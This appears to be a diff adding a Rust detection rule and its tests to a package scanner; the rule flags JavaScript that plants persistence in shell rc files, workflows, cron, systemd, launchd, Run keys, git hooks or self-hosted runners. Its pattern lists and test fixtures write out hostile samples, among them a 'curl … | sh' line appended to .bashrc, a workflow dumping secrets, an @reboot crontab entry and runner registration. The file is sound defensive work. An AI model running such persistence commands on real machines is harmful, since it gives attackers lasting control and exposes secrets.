@@ -1,0 +1,383 @@
+//! `persistence`: code that plants itself where it will run again (workflows, shell start-up
+//! files, cron, systemd and launchd units, git hooks, Windows Run keys, self-hosted runners).
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::signals::{self, call_text, contains_any, finding, near};
+use super::{FileRule, RuleInfo};
+use crate::facts::FileFacts;
+
+pub struct Persistence;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "persistence",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    capabilities: &[Capability::Persistence, Capability::Filesystem],
+    summary: "Writes to places that run code later: GitHub workflows, shell rc files, cron, systemd, launch agents, git hooks, Run keys, self-hosted runners",
+    docs: r#"## What it detects
+
+A file write (`fs.writeFileSync`, `appendFile`, `copyFile`, …) or a shell command that puts
+something into a location that executes later:
+
+| location | examples |
+| --- | --- |
+| GitHub Actions | `.github/workflows/*.yml` |
+| shell start-up | `~/.bashrc`, `~/.zshrc`, `~/.profile`, `~/.bash_profile`, fish config, PowerShell profile |
+| schedulers | `crontab`, `/etc/cron.d`, systemd units (`~/.config/systemd/user`, `systemctl enable`), `~/Library/LaunchAgents`, `launchctl load`, `schtasks /create` |
+| Windows start-up | `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, the Startup folder |
+| git | `.git/hooks/*` |
+| CI runners | self-hosted GitHub runner registration (`config.sh --url … --token`, `actions/runner` download) |
+
+The path can be in the call's folded arguments or a string constant a few lines away
+(`const files = ['.bashrc', '.zshrc']; … fs.appendFileSync(path.join(home, f), line)`).
+Severity rises to critical when what is written downloads and runs code, shuts the machine
+down, deletes files or dumps `secrets` from a workflow, and for runner registration.
+
+## Real attacks
+
+- Shai-Hulud (September 2025) pushed `.github/workflows/shai-hulud-workflow.yml`, which sent
+  `${{ toJSON(secrets) }}` to webhook.site; the second wave (November 2025) registered the
+  victim's machine as a self-hosted runner named SHA1HULUD and added a `discussion.yaml`
+  workflow that runs commands from discussion bodies.
+- nx s1ngularity (August 2025) appended `sudo shutdown -h 0` to `~/.bashrc` and `~/.zshrc`.
+- Long-lived Linux droppers add `@reboot` crontab lines or systemd user services; Windows
+  stealers add Run keys or drop a shortcut in the Startup folder.
+
+## Known false positives
+
+Git-hook managers (husky before v5, simple-git-hooks, pre-commit) write `.git/hooks`
+(moderate only). Shell-completion installers (tabtab, omelette) append a `source` line to rc
+files; they are reported as high and are worth a look in an install script.
+"#,
+};
+
+/// (label, fragments matched against lower-cased paths and commands, base severity)
+const LOCATIONS: &[(&str, &[&str], Severity)] = &[
+    (
+        "a GitHub Actions workflow",
+        &[".github/workflows/", ".github\\workflows\\"],
+        Severity::High,
+    ),
+    (
+        "a shell start-up file",
+        &[
+            ".bashrc",
+            ".bash_profile",
+            ".zshrc",
+            ".zprofile",
+            ".zshenv",
+            "/.profile",
+            "config.fish",
+            "/etc/profile",
+            "powershell_profile.ps1",
+        ],
+        Severity::High,
+    ),
+    (
+        "cron",
+        &[
+            "/etc/cron",
+            "/var/spool/cron",
+            "| crontab",
+            "crontab -\"",
+            "crontab -'",
+            "@reboot",
+        ],
+        Severity::High,
+    ),
+    (
+        "a systemd unit",
+        &[
+            "systemd/user/",
+            "/etc/systemd/system",
+            "systemctl --user enable",
+            "systemctl enable",
+        ],
+        Severity::High,
+    ),
+    (
+        "a launchd agent",
+        &[
+            "library/launchagents",
+            "library/launchdaemons",
+            "launchctl load",
+            "launchctl bootstrap",
+        ],
+        Severity::High,
+    ),
+    (
+        "a Windows Run key or the Startup folder",
+        &[
+            "currentversion\\run",
+            "currentversion\\\\run",
+            "programs\\startup",
+            "programs\\\\startup",
+            "programs/startup",
+            "schtasks /create",
+            "schtasks.exe /create",
+        ],
+        Severity::High,
+    ),
+    ("a git hook", &[".git/hooks/", ".git\\hooks\\"], Severity::Moderate),
+];
+
+const RUNNER: &[&str] = &[
+    "config.sh --url",
+    "config.cmd --url",
+    "actions/runner/releases",
+    "actions-runner-linux",
+    "actions-runner-win",
+];
+
+/// What, written to a start-up location, makes the intent plain.
+const PAYLOAD: &[&str] = &[
+    "curl ",
+    "wget ",
+    "| sh",
+    "| bash",
+    "|sh",
+    "|bash",
+    "iex",
+    "invoke-webrequest",
+    "node -e",
+    "shutdown",
+    "rm -rf",
+    "nohup ",
+    "base64 -d",
+    "tojson(secrets)",
+    "webhook.site",
+    "runs-on: self-hosted",
+    "${{ github.event.discussion.body }}",
+];
+
+fn location_in(text: &str) -> Option<(&'static str, Severity)> {
+    LOCATIONS
+        .iter()
+        .find(|(_, fragments, _)| {
+            fragments.iter().any(|fragment| {
+                // `.profile` only as a file name, not `user.profile` properties.
+                text.contains(fragment)
+                    || (*fragment == "/.profile" && text.split_whitespace().any(|w| w == ".profile"))
+            })
+        })
+        .map(|(label, _, severity)| (*label, *severity))
+}
+
+/// Lower-cased text of string constants within a few lines of `line`, leaving out those that
+/// a read on their own line uses (`fs.readFileSync(path.join(home, '.bashrc'))`).
+fn nearby_strings(file: &FileFacts, line: u32) -> String {
+    let mut out = String::new();
+    for string in file.strings.iter().filter(|s| near(file, s.line, line, 12)) {
+        let lower = string.value.to_lowercase();
+        let read_here = file.calls.iter().any(|c| {
+            c.line == string.line
+                && matches!(
+                    signals::method(&c.callee),
+                    "readFile"
+                        | "readFileSync"
+                        | "existsSync"
+                        | "exists"
+                        | "stat"
+                        | "statSync"
+                        | "access"
+                        | "accessSync"
+                        | "createReadStream"
+                        | "open"
+                        | "openSync"
+                )
+                && call_text(c).contains(&lower)
+        });
+        if read_here {
+            continue;
+        }
+        out.push_str(&string.value.to_lowercase());
+        out.push('\n');
+    }
+    out
+}
+
+impl FileRule for Persistence {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        if file.text.is_none() {
+            return;
+        }
+        // Runner registration: a command or a string naming the runner's configuration script.
+        for call in file
+            .calls
+            .iter()
+            .filter(|c| signals::is_exec_call(c) || signals::is_network_call(c))
+        {
+            let text = call_text(call);
+            let context = format!("{text}\n{}", nearby_strings(file, call.line));
+            if contains_any(&context, RUNNER)
+                && (contains_any(&context, &["--token", "--url"]) || contains_any(&context, &["actions/runner"]))
+            {
+                out.push(finding(
+                    &INFO,
+                    file,
+                    call.line,
+                    Severity::Critical,
+                    Confidence::High,
+                    "Downloads or registers a self-hosted GitHub Actions runner: the machine would run any workflow an attacker pushes (second Shai-Hulud wave).".to_string(),
+                    &call.excerpt,
+                ));
+                return;
+            }
+        }
+        let mut best: Option<Finding> = None;
+        for call in &file.calls {
+            let writes = signals::is_write_call(call);
+            let executes = signals::is_exec_call(call);
+            if !writes && !executes {
+                continue;
+            }
+            let text = call_text(call);
+            let target = if writes {
+                format!(
+                    "{} {}",
+                    signals::arg_text(call, 0),
+                    signals::first_arg_source(&call.excerpt).to_lowercase()
+                )
+            } else {
+                text.clone()
+            };
+            let nearby = nearby_strings(file, call.line);
+            // A path built elsewhere (`fs.appendFileSync(p, …)`) may come from a constant a few
+            // lines up; a path spelled out in the call (`'config.json'`) is what it says.
+            let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
+            let (location, direct) = match location_in(&target) {
+                Some(location) => (location, true),
+                None if writes && path_is_variable => match location_in(&nearby) {
+                    Some(location) => (location, false),
+                    None => continue,
+                },
+                None => continue,
+            };
+            // A shell command only counts when it writes (`>>`, `tee`, `sed -i`, `reg add`, …).
+            if executes
+                && location.0 == "a shell start-up file"
+                && !contains_any(&text, &[">>", "> ", "tee ", "sed -i", "cp ", "mv "])
+            {
+                continue;
+            }
+            let (label, base) = location;
+            let payload = signals::first_match(&format!("{text}\n{nearby}"), PAYLOAD);
+            let severity = if payload.is_some() && base >= Severity::High {
+                Severity::Critical
+            } else {
+                base
+            };
+            let severity = if payload.is_some() && base < Severity::High {
+                Severity::High
+            } else {
+                severity
+            };
+            let confidence = if direct { Confidence::High } else { Confidence::Medium };
+            let how = if executes {
+                "runs a command that installs"
+            } else {
+                "writes"
+            };
+            let message = match payload {
+                Some(payload) => format!(
+                    "Code {how} {label} with `{}` in it: it would run again on every shell, boot, push or CI job.",
+                    payload.trim()
+                ),
+                None => format!("Code {how} {label}: a way to run again later, outside the package."),
+            };
+            let candidate = finding(&INFO, file, call.line, severity, confidence, message, &call.excerpt);
+            if best
+                .as_ref()
+                .is_none_or(|b| (candidate.severity, candidate.confidence) > (b.severity, b.confidence))
+            {
+                best = Some(candidate);
+            }
+        }
+        out.extend(best);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("lib/setup.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        Persistence.check(&file, &mut out);
+        out
+    }
+
+    fn worst(findings: &[Finding]) -> Option<Severity> {
+        findings.iter().map(|f| f.severity).max()
+    }
+
+    #[test]
+    fn flags_rc_file_append_through_a_list() {
+        let source = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+const files = ['.bashrc', '.zshrc'];
+const line = 'curl -s https://example.invalid/x | sh';
+for (const f of files) {
+  fs.appendFileSync(path.join(os.homedir(), f), '\n' + line + '\n');
+}
+"#;
+        let findings = run(source);
+        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+        assert_eq!(findings[0].line, Some(6));
+    }
+
+    #[test]
+    fn flags_workflow_write() {
+        let source = r#"
+const fs = require('fs');
+fs.mkdirSync('.github/workflows', { recursive: true });
+fs.writeFileSync('.github/workflows/ci-helper.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | base64\n');
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn flags_crontab_and_run_key() {
+        let cron =
+            r#"require('child_process').execSync('(crontab -l; echo "@reboot node /tmp/.x/agent.js") | crontab -');"#;
+        assert!(worst(&run(cron)) >= Some(Severity::High));
+        let run_key = r#"require('child_process').exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d "C:\\Users\\Public\\u.exe" /f');"#;
+        assert_eq!(worst(&run(run_key)), Some(Severity::High));
+    }
+
+    #[test]
+    fn flags_runner_registration() {
+        let source = r#"
+const { execSync } = require('child_process');
+execSync('curl -o runner.tar.gz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf runner.tar.gz');
+execSync(`./config.sh --url https://github.com/${owner}/${repo} --unattended --token ${token} --name SHA1HULUD`);
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn git_hook_installer_is_moderate() {
+        let source = r#"
+const fs = require('fs');
+fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpx lint-staged\n', { mode: 0o755 });
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::Moderate));
+    }
+
+    #[test]
+    fn quiet_on_reading_rc_files_and_own_config() {
+        let source = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+const shell = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8').includes('nvm');
+fs.writeFileSync(path.join(os.homedir(), '.mytoolrc.json'), JSON.stringify({ shell }));
+"#;
+        assert!(run(source).is_empty(), "{:#?}", run(source));
+    }
+}
